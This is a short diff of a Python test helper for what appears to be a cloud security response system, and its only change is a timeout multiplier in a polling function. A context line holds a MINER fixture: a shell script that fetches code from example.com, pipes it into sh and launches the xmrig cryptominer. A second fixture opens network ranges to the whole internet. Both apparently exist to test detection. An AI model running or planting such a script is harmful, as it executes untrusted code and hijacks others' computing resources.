@@ -29,6 +29,7 @@ MINER = "#!/bin/sh\ncurl -s https://example.com/x | sh\n./xmrig -o stratum+tcp:/
 ENFORCING = "version: 1\nmode: enforce\nrisk: {learning: 0s}\nblast_radius: {instances_per_hour: 5000}\n"
 WORLD = {"IpRanges": [{"CidrIp": "0.0.0.0/0"}], "Ipv6Ranges": [{"CidrIpv6": "::/0"}]}
 QUEUES = ("triggers", "assess", "respond", "fix", "notices", "watch")
+PATIENCE = 3
 _numbers = itertools.count(1)
 
 
@@ -46,13 +47,14 @@ def unique(word: str) -> str:
 
 
 def eventually(check: Callable[[], Any], what: str, seconds: float = 15) -> Any:
-    """What `check` returns once it is true. It is asked again and again until the time is over."""
-    deadline = time.monotonic() + seconds
+    """What `check` returns once it is true. It is asked again and again until the time is over: seconds of a quiet machine,
+    and only what fails waits for those of a busy one."""
+    deadline = time.monotonic() + seconds * PATIENCE
     while True:
         found = check()
         if found:
             return found
-        assert time.monotonic() < deadline, f"not within {seconds} s: {what}; the last look gave {found!r}"
+        assert time.monotonic() < deadline, f"not within {seconds * PATIENCE} s: {what}; the last look gave {found!r}"
         time.sleep(0.1)
 
 
